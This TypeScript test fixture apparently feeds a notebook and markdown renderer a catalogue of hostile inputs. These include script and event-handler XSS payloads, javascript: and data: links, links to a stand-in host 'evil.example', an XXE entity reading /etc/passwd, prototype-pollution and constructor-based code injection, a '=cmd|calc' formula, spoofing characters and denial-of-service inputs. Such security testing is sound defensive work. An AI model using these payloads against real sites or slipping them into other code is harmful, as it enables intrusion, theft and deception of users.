/** What `hit` does if it ever runs: the page of the test sees it. */
export const hit = 'window.__hit=1';
const away = 'https://evil.example/x';

/** So much of one character or piece, which no file of the repository has to hold. */
const many = (piece: string, count: number): string => piece.repeat(count);
const cell = (kind: string, id: string, body: string): string => `\`\`\`${kind} ${id}\n${body}\n\`\`\`\n`;

/** Prose and cells that mean harm, by what they try; each stands in a notebook of its own, and all in one. */
export const bodies: Readonly<Record<string, string>> = {
  'a script': `<script>${hit}</script>`,
  'a script in a sentence': `Words <script>${hit}</script> words`,
  'an image that fails': `<img src=x onerror="${hit}">`,
  'an image from elsewhere in HTML': `<img src="${away}">`,
  'a picture with a script': `<svg onload="${hit}"><script>${hit}</script><animate onbegin="${hit}"/></svg>`,
  'a foreign object': `<svg><foreignObject><body onload="${hit}"></body></foreignObject></svg>`,
  'mutated markup': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  'a frame': `<iframe src="javascript:${hit}" srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  'an object': `<object data="data:text/html,<script>${hit}</script>"></object><embed src="${away}">`,
  'a form': `<form action="${away}"><button formaction="javascript:${hit}" autofocus onfocus="${hit}">b</button></form>`,
  'a base': `<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}">`,
  'a style from elsewhere': `<link rel="stylesheet" href="${away}"><style>@import url(${away});body{display:none}</style>`,
  'an element that opens by itself': `<details open ontoggle="${hit}"><summary>s</summary></details><video autoplay onloadstart="${hit}" src="${away}"></video>`,
  'names of the page': `<a id="app"></a><form id="content"><input name="attributes"></form><img name="getElementById">`,
  'a comment that never ends': `<!-- <script>${hit}</script>`,
  'character data': `<![CDATA[<script>${hit}</script>]]>\n\n<?php ${hit} ?>\n\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
  'HTML in a heading': `### <img src=x onerror=${hit}> heading`,
  'HTML in a table': `| <script>${hit}</script> | b |\n| --- | --- |\n| <img src=x onerror=${hit}> | [a](javascript:${hit}) |`,
  'HTML in a footnote': `Words[^bad].\n\n[^bad]: <script>${hit}</script> [x](javascript:${hit})`,
  'HTML in code': `\`<script>${hit}</script>\`\n\n    <img src=x onerror=${hit}>`,
  'a link that runs': `[a](javascript:${hit})`,
  'a link that runs, dressed': `[a](JaVaScRiPt:${hit}) [b](java&#x09;script:${hit}) [c](&#106;avascript:${hit}) [d](javascript&colon;${hit})`,
  'a link that runs, in brackets': `<javascript:${hit}> [e](<javascript:${hit}>) [f](\\x01javascript:${hit})`,
  'a link that runs, by name': `[a][b] ![a][b]\n\n[b]: javascript:${hit} "t"`,
  'a link to data': `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1)) [c](blob:null/x)`,
  'a link to a file': `[a](file:///etc/passwd) [b](\\\\\\\\evil\\\\share) [c](//evil.example/x) [d](http://evil.example) [e](ftp://evil.example)`,
  'a link with a name that lies': `[https://bank.example](${away}) <https://a@evil.example/> [b](https://xn--80ak6aa92e.com/)`,
  'a link that breaks out': `[a](https://example.org/"onmouseover="${hit}) [b](https://example.org/ "\\" onclick=\\"${hit}")`,
  'an image from elsewhere': `![a](${away}.png) ![b](//evil.example/x.png) ![c](http://127.0.0.1:1/x)`,
  'an image that is a page': `![a](data:text/html,<script>${hit}</script>) ![b](data:image/svg+xml,<svg onload="${hit}"/>)`,
  'an image from the folder above': `![a](../../../etc/passwd) ![b](/firstPaint.js) ![c](?x) ![d](#/n/leaky-bucket)`,
  'maths with an address':
    '$$\\href{javascript:window.__hit=1}{x} \\url{javascript:1} \\includegraphics{https://evil.example/x}$$',
  'maths with HTML': '$$\\htmlId{app}{x}\\htmlClass{a}{b}\\htmlStyle{color:red}{c}\\htmlData{a=b}{d}$$',
  'maths that grows': '$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$$',
  'maths that is huge': '$$\\rule{1000000em}{1000000em}\\kern{-99999em}\\hspace{99999em}x$$',
  'maths that is deep': `$$${many('{', 400)}x${many('}', 400)}$$`,
  'maths that is markup':
    '$$<script>window.__hit=1</script> \\text{<img src=x onerror=window.__hit=1>} & \\unicode{x3c}$$',
  'marks that turn the text': 'Pay \u202E001 rof\u202C now \u2066\u2067\u2068\u2069 \u200F\u061C.',
  'characters without width': 'inv\u200Bis\u200Cib\u200Dle \u2060\uFEFF\u00AD word\u034F\u180E.',
  'characters of control': 'bell \u0007 escape \u001B[31m back \u0008 \u0085 \u2028 \u2029.',
  'letters that look like others': '\u0440\u0430ypal \uFF1Cscript\uFF1E \u1F47B \uD83D\uDE00 \uFDFA',
  'marks without end': `Z${many('\u0335\u0336\u0310', 300)}algo`,
  'half a character': 'lone \uD800 and \uDFFF halves',
  'a line of 100,000 letters': many('a', 100_000),
  'a line of 20,000 brackets': many('[', 20_000),
  'a line of 20,000 stars': many('*a', 20_000),
  'a line of 20,000 colons': many(':', 20_000),
  'a line of 20,000 marks': many('`', 20_000),
  'emphasis in emphasis': many('**a _b ', 400) + many('_ **', 400),
  'links in links': many('[a](', 2000),
  'an image in an image': many('![', 2000),
  'quotations in quotations': `${many('> ', 400)}x`,
  'lists in lists': Array.from({ length: 150 }, (_, depth) => `${many('  ', depth)}- x`).join('\n'),
  'a table of 400 columns': `|${many('a|', 400)}\n|${many('-|', 400)}\n|${many('b|', 400)}`,
  'entities without end': many('&#x26;&amp;&lt;', 2000),
  'footnotes that call each other': 'Words[^one].\n\n[^one]: See[^two].\n\n[^two]: See[^one].',
  'a thousand definitions': Array.from({ length: 1000 }, (_, at) => `[d${at}]: #x`).join('\n'),
  'live values that are no names':
    '{{ constructor }} {{ __proto__ }} {{ joined.constructor }} {{ toString }} {{ joined@__proto__ }}',
  'a live value that is code': '{{ joined); window.__hit=1; ( }} {{ `${window.__hit=1}` }} {{ <script> }}',
  'a live value without end': `{{ ${many('joined ', 500)}`,
  'a lever that is none':
    '{{ lever __proto__.polluted }} {{ lever channels.constructor.prototype }} {{ lever channels.ads.__proto__ }}',
  'a format that is none': '{{ joined : constructor }} {{ joined : __proto__ }} {{ joined : <b> }}',
  'a cell called as an object’s own':
    cell('constructor', 'x', 'a: 1') + cell('__proto__', 'y', 'a: 1') + cell('toString', 'z', 'a: 1'),
  'a cell with an id of the page':
    cell('value', 'app', 'show: [joined]') + cell('value', 'content', 'show: [joined]'),
  'a cell with an id that is none':
    cell('value', '"onload="x', 'show: [joined]') + cell('value', '__proto__', 'show: [joined]'),
  'a cell with markup in its labels': cell(
    'quiz',
    'marked',
    `question: "<img src=x onerror=${hit}>"\noptions:\n  a: { label: "<script>${hit}</script>", feedback: "[x](javascript:${hit})", right: true }\n  b: { label: "\\u202Eevil", feedback: "{{ joined }}" }`,
  ),
  'a cell with a prototype': cell(
    'quiz',
    'proto',
    'question: Q?\noptions:\n  __proto__: { label: A, feedback: Yes., right: true }\n  constructor: { label: B, feedback: No. }',
  ),
  'a note with markup': cell('note', 'wordy', `question: "</textarea><script>${hit}</script>"`),
  'a goal that is code': cell(
    'checkpoint',
    'code',
    'task: Do it.\ngoal: constructor.constructor("window.__hit=1")() >= 1',
  ),
  'a goal that is a method': cell(
    'checkpoint',
    'method',
    'task: Do it.\ngoal: joined.toFixed(2) >= 1 and import("https://evil.example/x")',
  ),
  'a goal that escapes': cell('checkpoint', 'escaped', 'task: Do it.\ngoal: "\\u0063onstructor >= 1"'),
  'a goal that assigns': cell('checkpoint', 'assigned', 'task: Do it.\ngoal: "f(x) = f(x); joined >= 1"'),
  'a goal that is huge': cell('checkpoint', 'huge', 'task: Do it.\ngoal: 1:1e9 >= ones(1e5, 1e5)'),
  'a goal over a billion seeds': cell(
    'checkpoint',
    'seeds',
    'task: Do it.\ngoal: joined >= 1\nseeds: 1000000000\npass: -5',
  ),
  'a formula of code': cell('formula', 'code', 'expression: constructor.constructor("return 1")()'),
  'a formula that is deep': cell('formula', 'deep', `expression: ${many('(', 500)}1${many(')', 500)}`),
  'a formula that is long': cell('formula', 'long', `expression: ${many('1+', 3000)}1`),
  'a rule of code': cell('rule', 'code', 'lever: care.constructor.when\nrule: spend > 1; window.__hit = 1'),
  'a chart of nothing':
    cell('chart', 'nothing', 'measure: __proto__\nas: constructor') +
    cell('chart', 'many', `measure: [${many('joined, ', 500)}joined]`),
  'a table of nothing': cell('table', 'nothing', 'show: [constructor, __proto__, "=cmd|calc"]'),
  'a sweep without end': cell(
    'sensitivity',
    'endless',
    'levers: [channels.ads.spendPerDay]\nmeasure: joined\nseeds: 1e12',
  ),
  'a plan of hostile days': cell(
    'calendar',
    'days',
    `allow: ["__proto__", "<b>"]\nchecklist: { __proto__: 1 }`,
  ),
  'a cell of 5,000 keys': cell(
    'value',
    'keys',
    Array.from({ length: 5000 }, (_, at) => `k${at}: 1`).join('\n'),
  ),
  'a cell of a long word': cell('value', 'word', `show: ["${many('x', 20_000)}"]`),
  'a fence that never ends': '````\nno end',
  'a cell that never ends': '```value open\nshow: [joined]',
  'a container that never ends': `:::instructor\n<script>${hit}</script>`,
  'a container called otherwise': `:::__proto__\nx\n:::\n\n:::script{onload=${hit}}\nx\n:::\n\n:note[x]{#app .y onclick=${hit}}\n\n::leaf{href="javascript:${hit}"}`,
  'containers in containers': `${many(':', 60)}note\n${many(':', 59)}hint\n${many(':', 58)}note\nx\n${many(':', 58)}\n${many(':', 59)}\n${many(':', 60)}`,
  'a language of code that is none':
    '```js"onload="x\nwindow.__hit=1\n```\n\n```html\n<script>window.__hit=1</script>\n```',
  'a heading of 10,000 letters': `## ${many('heading ', 1250)}`,
  'a heading that is an address':
    '## javascript:window.__hit=1\n\n## ../../x\n\n## __proto__\n\n## constructor\n\n## constructor',
  'a second front matter': '---\nsluice: 1\nset: { channels.ads.spendPerDay: 9 }\n---',
};

/** These swallow all that follows, or make a file that is no text: they cannot stand with others in one. */
export const alone: readonly string[] = [
  'half a character',
  'a comment that never ends',
  'character data',
  'a fence that never ends',
  'a cell that never ends',
  'a container that never ends',
];
